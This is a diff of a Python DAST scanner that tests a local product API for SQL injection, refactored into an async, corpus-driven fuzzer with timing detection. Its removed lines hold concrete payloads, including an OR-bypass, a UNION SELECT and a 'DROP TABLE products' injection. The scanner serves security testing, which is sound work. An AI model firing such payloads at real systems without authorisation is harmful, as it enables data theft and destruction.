@@ -1,7 +1,11 @@
-import requests
+import argparse
+import asyncio
 import json
 import time
 from datetime import datetime
+from dast_engine import AsyncHttpClient, RetryPolicy, TimeoutPolicy, TokenBucket, emit, run_tests
+from dast_payloads import DEFAULT_CORPUS, Fuzzer, load_corpus
+from dast_timing import TimingDetector
 
 # Colores para terminal
 class Colors:
@@ -15,38 +19,44 @@ class Colors:
     BOLD = '\033[1m'
 
 def print_header(text):
-    print(f"\n{Colors.CYAN}{'='*70}{Colors.END}")
-    print(f"{Colors.BOLD}{Colors.BLUE}{text}{Colors.END}")
-    print(f"{Colors.CYAN}{'='*70}{Colors.END}\n")
+    emit(f"\n{Colors.CYAN}{'='*70}{Colors.END}")
+    emit(f"{Colors.BOLD}{Colors.BLUE}{text}{Colors.END}")
+    emit(f"{Colors.CYAN}{'='*70}{Colors.END}\n")
 
 def print_test(number, description):
-    print(f"{Colors.YELLOW}[Test {number}] {description}{Colors.END}")
+    emit(f"{Colors.YELLOW}[Test {number}] {description}{Colors.END}")
 
 def print_success(text):
-    print(f"{Colors.GREEN}✓ {text}{Colors.END}")
+    emit(f"{Colors.GREEN}✓ {text}{Colors.END}")
 
 def print_warning(text):
-    print(f"{Colors.YELLOW}⚠ {text}{Colors.END}")
+    emit(f"{Colors.YELLOW}⚠ {text}{Colors.END}")
 
 def print_error(text):
-    print(f"{Colors.RED}✗ {text}{Colors.END}")
+    emit(f"{Colors.RED}✗ {text}{Colors.END}")
 
 def print_vulnerable(text):
-    print(f"{Colors.RED}{Colors.BOLD}🚨 VULNERABLE: {text}{Colors.END}")
+    emit(f"{Colors.RED}{Colors.BOLD}🚨 VULNERABLE: {text}{Colors.END}")
 
 BASE_URL = "http://localhost:3000"
 results = []
+# Estadísticas del transporte HTTP del último análisis (conexiones, reuso, tiempos)
+transport = {}
+# Estadísticas del corpus del último análisis (sondas, respuestas distintas, evaluaciones)
+fuzzing = {}
 
 # Verificar servidor
-def check_server():
+async def check_server(http):
     """Verifica si el servidor está corriendo"""
     print_test("0", "Verificando servidor...")
     try:
-        response = requests.get(f"{BASE_URL}/health", timeout=5)
+        response = await http.get(f"{BASE_URL}/health")
         if response.status_code == 200:
             print_success(f"Servidor activo en {BASE_URL}")
             return True
-    except requests.exceptions.ConnectionError:
+        print_error(f"El servidor respondió {response.status_code} en /health")
+        return False
+    except ConnectionError:
         print_error(f"Servidor no está corriendo en {BASE_URL}")
         print("\nPor favor ejecuta en otra terminal:")
         print("  npm start")
@@ -55,243 +65,145 @@ def check_server():
         print_error(f"Error al conectar: {e}")
         return False
 
-# Busqueda normal
-def test_normal_search():
-    """Test 1: Búsqueda normal (baseline)"""
-    print_test("1", "Búsqueda normal (baseline)")
-    
-    url = f"{BASE_URL}/api/products/search?name=laptop"
-    response = requests.get(url)
-    data = response.json()
-    
-    count = data.get('count', 0)
-    print(f"   URL: {url}")
-    print(f"   Resultados: {count} productos")
-    
-    results.append({
-        'test': 'Búsqueda normal',
-        'url': url,
-        'vulnerable': False,
-        'count': count,
-        'severity': 'INFO'
-    })
-    
-    return count
+def make_test(fuzzer, number, family):
+    """
+    Prueba de una familia del corpus: envía todas sus sondas y reporta la
+    primera positiva (o la primera respuesta si ninguna lo fue).
+    """
+    async def test(http):
+        print_test(number, family.title)
+        report = await fuzzer.run_family(family, http)
+        first = report.first
+        evaluation = first.evaluation
 
-# Bypass
-def test_sqli_bypass():
-    """Test 2: SQL Injection - Bypass con OR 1=1"""
-    print_test("2", "SQL Injection - Bypass (OR 1=1)")
-    
-    payload = "' OR '1'='1"
-    url = f"{BASE_URL}/api/products/search?name={requests.utils.quote(payload)}"
-    
-    try:
-        response = requests.get(url)
-        data = response.json()
-        count = data.get('count', 0)
-        
-        print(f"   Payload: {payload}")
-        print(f"   URL: {url}")
-        print(f"   Resultados: {count} productos")
-        
-        if count >= 20:
-            print_vulnerable(f"Bypass exitoso - Acceso a {count} registros")
-            results.append({
-                'test': 'SQL Injection Bypass',
-                'url': url,
-                'payload': payload,
-                'vulnerable': True,
-                'count': count,
-                'severity': 'CRITICAL',
-                'description': 'Permite bypass de condiciones WHERE'
-            })
-            return True
-        else:
-            print_warning("No se pudo confirmar bypass")
-            return False
-            
-    except Exception as e:
-        print_error(f"Error: {e}")
-        return False
+        if family.match is not None:
+            emit(f"   Payload: {first.probe.payload}")
+        if first.probe.control is not None:
+            emit(f"   Control (condición falsa): {first.probe.control}")
+        emit(f"   URL: {first.url}")
+        if "count" in family.report:
+            emit(f"   Resultados: {evaluation.count} productos")
+        if "status" in family.report:
+            emit(f"   Status: {evaluation.status}")
+        if len(report.results) > 1:
+            emit(f"   Variantes: {len(report.results)} probadas, {len(report.matches)} positivas, "
+                 f"{report.unique_responses} respuestas distintas")
 
-# Injection con comentario
-def test_sqli_comment():
-    """Test 3: SQL Injection - Comentario SQL"""
-    print_test("3", "SQL Injection - Comentario (--)")
-    
-    payload = "laptop'--"
-    url = f"{BASE_URL}/api/products/search?name={requests.utils.quote(payload)}"
-    
-    try:
-        response = requests.get(url)
-        data = response.json()
-        
-        print(f"   Payload: {payload}")
-        print(f"   URL: {url}")
-        
-        if data.get('success'):
-            print_vulnerable("Comentario SQL procesado - Query modificada")
-            results.append({
-                'test': 'SQL Injection Comment',
-                'url': url,
-                'payload': payload,
-                'vulnerable': True,
-                'severity': 'HIGH',
-                'description': 'Permite comentar resto de la query'
-            })
-            return True
-        else:
-            print_warning("No se pudo confirmar")
+        result = {
+            'test': family.test,
+            'url': first.url,
+            'vulnerable': False,
+            'severity': family.severity,
+        }
+        if "count" in family.report:
+            result['count'] = evaluation.count
+        if family.match is None:
+            return result
+        if not report.matches:
+            print_warning(family.not_found)
             return False
-            
-    except Exception as e:
-        print_error(f"Error: {e}")
-        return False
 
-# Union atack
-def test_sqli_union():
-    """Test 4: SQL Injection - UNION attack"""
-    print_test("4", "SQL Injection - UNION attack")
-    
-    payload = "' UNION SELECT null,null,null,null,null--"
-    url = f"{BASE_URL}/api/products/search?name={requests.utils.quote(payload)}"
-    
-    try:
-        response = requests.get(url)
-        data = response.json()
-        
-        print(f"   Payload: {payload}")
-        print(f"   URL: {url}")
-        print(f"   Status: {response.status_code}")
-        
-        if not data.get('success') or 'error' in data:
-            error_msg = data.get('error', '')
-            if 'SQL' in error_msg or 'UNION' in error_msg:
-                print_vulnerable("Error SQL expuesto - Confirma inyección")
-                results.append({
-                    'test': 'SQL Injection UNION',
-                    'url': url,
-                    'payload': payload,
-                    'vulnerable': True,
-                    'severity': 'CRITICAL',
-                    'description': 'Permite UNION attacks, expone errores SQL'
-                })
-                return True
-        
-        print_warning("No se pudo confirmar UNION attack")
-        return False
-            
-    except Exception as e:
-        print_error(f"Error: {e}")
-        return False
+        print_vulnerable(family.found.format(count=evaluation.count))
+        result.update({
+            'payload': first.probe.payload,
+            'parameter': first.probe.parameter,
+            'vulnerable': True,
+            'description': family.description,
+        })
+        if first.probe.control is not None:
+            result['control'] = first.probe.control
+        if len(report.results) > 1:
+            result['variants'] = {'probes': len(report.results), 'matches': len(report.matches),
+                                  'unique_responses': report.unique_responses}
+        return result
 
-#Injection con parametro en ruta
-def test_sqli_parameter_id():
-    """Test 5: SQL Injection en parámetro ID"""
-    print_test("5", "SQL Injection en parámetro :id")
-    
-    payload = "1 OR 1=1"
-    url = f"{BASE_URL}/api/products/{requests.utils.quote(payload)}"
-    
-    try:
-        response = requests.get(url)
-        data = response.json()
-        
-        print(f"   Payload: {payload}")
-        print(f"   URL: {url}")
-        
-        if data.get('success') and data.get('data'):
-            print_vulnerable("Inyección en parámetro de ruta exitosa")
-            results.append({
-                'test': 'SQL Injection en ID',
-                'url': url,
-                'payload': payload,
-                'vulnerable': True,
-                'severity': 'CRITICAL',
-                'description': 'Parámetro de ruta vulnerable'
-            })
-            return True
-        else:
-            print_warning("No se pudo confirmar")
-            return False
-            
-    except Exception as e:
-        print_error(f"Error: {e}")
-        return False
+    test.__name__ = f"test_{family.name}"
+    return test
 
-# SQL injection en post
-def test_sqli_post():
-    """Test 6: SQL Injection en POST (CREATE)"""
-    print_test("6", "SQL Injection en POST request")
-    
-    payload = {
-        "name": "Test'); DROP TABLE products--",
-        "price": 99.99,
-        "category": "Test",
-        "stock": 10
-    }
-    url = f"{BASE_URL}/api/products"
-    
-    try:
-        response = requests.post(url, json=payload)
-        data = response.json()
-        
-        print(f"   Payload: {payload['name']}")
-        print(f"   URL: {url}")
-        
-        if 'error' in data or data.get('success'):
-            print_vulnerable("Payload malicioso procesado en INSERT")
-            results.append({
-                'test': 'SQL Injection en POST',
-                'url': url,
-                'payload': payload['name'],
-                'vulnerable': True,
-                'severity': 'CRITICAL',
-                'description': 'INSERT query vulnerable a inyección'
-            })
-            return True
-        else:
-            print_warning("No se pudo confirmar")
-            return False
-            
-    except Exception as e:
-        print_error(f"Error: {e}")
-        return False
+def make_timing_test(detector, number, family):
+    """
+    Prueba de una familia por tiempo: mide cada endpoint (en paralelo) y
+    reporta el primero en que la consulta costosa demora la respuesta.
+    """
+    async def test(http):
+        print_test(number, family.title)
+        verdicts = await detector.run_family(family, http)
+        for v in verdicts:
+            if v.error is not None:
+                emit(f"   {v.target}.{v.parameter}: error: {v.error}")
+                continue
+            emit(f"   {v.target}.{v.parameter}: base p50 {v.baseline.median * 1000:.1f} ms "
+                 f"(σ {v.baseline.spread * 1000:.1f} ms, {len(v.baseline.samples)} muestras) | "
+                 f"demora {v.shift * 1000:+.1f} ms, p={v.p_value:.2g}, {v.samples}+{v.samples} muestras")
 
-#Information disclosure
-def test_information_disclosure():
-    """Test 7: Information Disclosure"""
-    print_test("7", "Information Disclosure (Exposición de errores)")
-    
-    payload = "invalid' syntax"
-    url = f"{BASE_URL}/api/products/search?name={requests.utils.quote(payload)}"
-    
-    try:
-        response = requests.get(url)
-        data = response.json()
-        
-        print(f"   Payload: {payload}")
-        print(f"   URL: {url}")
-        
-        if 'stack' in data or 'SQLite' in str(data):
-            print_vulnerable("Información sensible expuesta en errores")
-            results.append({
-                'test': 'Information Disclosure',
-                'url': url,
-                'payload': payload,
-                'vulnerable': True,
-                'severity': 'MEDIUM',
-                'description': 'Expone stack traces y errores SQL'
-            })
-            return True
-        else:
-            print_warning("No se detectó exposición de información")
+        found = [v for v in verdicts if v.vulnerable]
+        if not found:
+            print_warning(family.not_found)
             return False
-            
-    except Exception as e:
-        print_error(f"Error: {e}")
-        return False
+        v = found[0]
+        shift, p_value = f"{v.shift * 1000:+.0f}", f"{v.p_value:.2g}"
+        emit(f"   Payload: {v.payload}")
+        emit(f"   Control: {v.control}")
+        print_vulnerable(family.found.format(shift=shift, p_value=p_value))
+        return {
+            'test': family.test,
+            'url': v.url,
+            'payload': v.payload,
+            'parameter': v.parameter,
+            'control': v.control,
+            'vulnerable': True,
+            'severity': family.severity,
+            'description': family.description,
+            'timing': {
+                'endpoints': [f"{x.target}.{x.parameter}" for x in found],
+                'shift_ms': round(v.shift * 1000, 1),
+                'p_value': v.p_value,
+                'samples': v.samples,
+                'baseline_ms': round(v.baseline.median * 1000, 2),
+            },
+        }
+
+    test.__name__ = f"test_{family.name}"
+    return test
+
+def build_tests(fuzzer, detector=None):
+    """Una prueba por familia, en el orden del corpus (el del reporte)."""
+    detector = detector or TimingDetector(fuzzer.base_url)
+    return [make_timing_test(detector, number, family) if family.timing is not None
+            else make_test(fuzzer, number, family)
+            for number, family in enumerate(fuzzer.corpus.families, 1)]
+
+def describe_transport():
+    """Líneas del reporte sobre el transporte HTTP: reuso de conexiones, reintentos y tiempos."""
+    if not transport:
+        return []
+    lines = [
+        f"Solicitudes HTTP: {transport['requests']} ({transport['attempts']} intentos, "
+        f"{transport['retries']} reintentos, {transport['timeouts']} timeouts)",
+        f"Conexiones abiertas: {transport['connections']} | "
+        f"Reuso de conexiones: {transport['reuse_rate']:.0%} ({transport['reused']} de {transport['attempts']})",
+    ]
+    for key, label in (("connect_ms", "Conexión"), ("ttfb_ms", "Primer byte"), ("total_ms", "Total")):
+        if transport[key]:
+            stats = transport[key]
+            lines.append(f"{label}: p50 {stats['p50']} ms | p95 {stats['p95']} ms | máx {stats['max']} ms")
+    return lines
+
+def describe_fuzzing():
+    """Líneas del reporte sobre el corpus: cuántas sondas y cuántas evaluaciones costaron."""
+    if not fuzzing:
+        return []
+    timing = fuzzing['timing']
+    return [
+        f"Payloads enviados: {fuzzing['probes']} en {fuzzing['families']} familias "
+        f"({fuzzing['duplicates']} duplicados omitidos, {fuzzing['errors']} con error)",
+        f"Respuestas distintas: {fuzzing['unique_responses']} | Evaluaciones: {fuzzing['evaluations']} "
+        f"({fuzzing['cache_hits']} resueltas por hash)",
+        f"Líneas base: {fuzzing['baselines']} ({fuzzing['baseline_requests']} solicitudes, "
+        f"{fuzzing['baseline_hits']} reusos entre sondas y familias)",
+        f"Detección por tiempo: {timing['endpoints']} endpoints, {timing['requests']} mediciones "
+        f"({timing['timeouts']} demoras hasta el timeout, {timing['errors']} endpoints con error)",
+    ]
 
 def generate_report():
     """Genera reporte final"""
@@ -309,6 +221,10 @@ def generate_report():
     print(f"  - Altas: {len(high)}")
     print(f"  - Medias: {len(medium)}")
     print()
+    transport_summary = describe_fuzzing() + describe_transport()
+    for line in transport_summary:
+        print(line)
+    print()
     
     if vulnerabilities:
         print_header("VULNERABILIDADES DETECTADAS")
@@ -326,7 +242,9 @@ def generate_report():
             'target': BASE_URL,
             'total_tests': total_tests,
             'vulnerabilities': len(vulnerabilities),
-            'results': results
+            'results': results,
+            'transport': transport,
+            'fuzzing': fuzzing
         }, f, indent=2)
     
     print(f"\n{Colors.GREEN}✓ Resultados guardados en: {json_file}{Colors.END}")
@@ -339,6 +257,9 @@ def generate_report():
         f.write(f"Target: {BASE_URL}\n")
         f.write(f"Total de pruebas: {total_tests}\n")
         f.write(f"Vulnerabilidades: {len(vulnerabilities)}\n\n")
+        for line in transport_summary:
+            f.write(line + "\n")
+        f.write("\n")
         
         if vulnerabilities:
             f.write("VULNERABILIDADES DETECTADAS:\n")
@@ -363,43 +284,84 @@ def generate_report():
     else:
         print(f"{Colors.GREEN}✓ No se encontraron vulnerabilidades críticas{Colors.END}")
 
+def parse_args():
+    parser = argparse.ArgumentParser(description="Análisis DAST de SQL Injection contra la API de productos")
+    parser.add_argument("--base-url", default=BASE_URL, help=f"URL del servidor (por defecto: {BASE_URL})")
+    parser.add_argument("-c", "--concurrency", type=int, default=4, help="Pruebas ejecutándose a la vez")
+    # Con 20/s y ráfagas de 5 el análisis ya es ~2x más rápido que el secuencial
+    # original (pausas fijas de 0,5 s) sin saturar el servidor (benchmark-dast.py)
+    parser.add_argument("--rate", type=float, default=20.0, help="Máximo de solicitudes por segundo")
+    parser.add_argument("--burst", type=int, default=5, help="Solicitudes que pueden salir juntas sin esperar")
+    parser.add_argument("--timeout", type=float, default=10.0,
+                        help="Timeout de cada intento: respuesta completa (segundos)")
+    parser.add_argument("--connect-timeout", type=float, default=5.0, help="Timeout para conectar (segundos)")
+    parser.add_argument("--retries", type=int, default=3,
+                        help="Intentos por solicitud ante fallas de red o 502/503/504")
+    parser.add_argument("--payloads", default=DEFAULT_CORPUS, help="Archivo JSON con el corpus de payloads")
+    parser.add_argument("--mutate", action="store_true",
+                        help="Expandir cada payload con los mutadores de su familia (codificación, mayúsculas, "
+                             "comentarios, columnas)")
+    return parser.parse_args()
+
+def print_outcome(outcome):
+    """Imprime la salida de una prueba al terminar (en el orden del corpus)."""
+    for line in outcome.output:
+        print(line)
+    if outcome.error is not None:
+        print_error(f"{outcome.name}: {type(outcome.error).__name__}: {outcome.error}")
+    print()
+
+async def run_scan(concurrency=4, rate=20.0, burst=5, timeout=10.0, on_done=print_outcome,
+                   connect_timeout=5.0, retries=3, keep_alive=True, corpus=None, mutate=False):
+    """
+    Ejecuta una prueba por familia del corpus como tareas concurrentes sobre
+    un mismo transporte (conexiones keep-alive, reintentos y timeouts) y
+    deja sus hallazgos en results y las estadísticas en transport y
+    fuzzing. Sin mutate solo se envían los payloads del archivo. Devuelve
+    False si el servidor no responde.
+    """
+    async with AsyncHttpClient(timeout=TimeoutPolicy(connect_timeout, timeout, timeout),
+                               bucket=TokenBucket(rate, burst),
+                               retry=RetryPolicy(attempts=retries), keep_alive=keep_alive) as http:
+        try:
+            if not await check_server(http):
+                return False
+            print()
+
+            fuzzer = Fuzzer(corpus or load_corpus(), BASE_URL, concurrency, mutate)
+            detector = TimingDetector(BASE_URL)
+            outcomes = await run_tests(build_tests(fuzzer, detector), http, concurrency, on_done)
+            fuzzing.clear()
+            fuzzing.update(fuzzer.stats())
+            fuzzing['timing'] = detector.stats()
+            results.clear()
+            results.extend(outcome.result for outcome in outcomes if isinstance(outcome.result, dict))
+            return True
+        finally:
+            transport.clear()
+            transport.update(http.stats())
+
 def main():
+    global BASE_URL
+    args = parse_args()
+    BASE_URL = args.base_url.rstrip("/")
+
     print_header("ANÁLISIS DAST - SQL INJECTION TESTING")
     print(f"Target: {BASE_URL}")
     print(f"Fecha: {datetime.now().strftime('%Y-%m-%d %H:%M:%S')}")
-    
-    if not check_server():
+    print(f"Concurrencia: {args.concurrency} | Límite: {args.rate:g} solicitudes/s | Timeout: {args.timeout:g} s")
+
+    start = time.perf_counter()
+    if not asyncio.run(run_scan(args.concurrency, args.rate, args.burst, args.timeout,
+                                connect_timeout=args.connect_timeout, retries=args.retries,
+                                corpus=load_corpus(args.payloads), mutate=args.mutate)):
         return
-    
-    print()
-    time.sleep(1)
-    
-    # Ejecutar pruebas
-    baseline = test_normal_search()
-    time.sleep(0.5)
-    
-    test_sqli_bypass()
-    time.sleep(0.5)
-    
-    test_sqli_comment()
-    time.sleep(0.5)
-    
-    test_sqli_union()
-    time.sleep(0.5)
-    
-    test_sqli_parameter_id()
-    time.sleep(0.5)
-    
-    test_sqli_post()
-    time.sleep(0.5)
-    
-    test_information_disclosure()
-    time.sleep(0.5)
-    
+    elapsed = time.perf_counter() - start
+
     generate_report()
-    
+
     print(f"\n{Colors.CYAN}{'='*70}{Colors.END}")
-    print(f"{Colors.BOLD}Análisis completado{Colors.END}")
+    print(f"{Colors.BOLD}Análisis completado en {elapsed:.2f} s{Colors.END}")
     print(f"{Colors.CYAN}{'='*70}{Colors.END}\n")
 
 if __name__ == '__main__':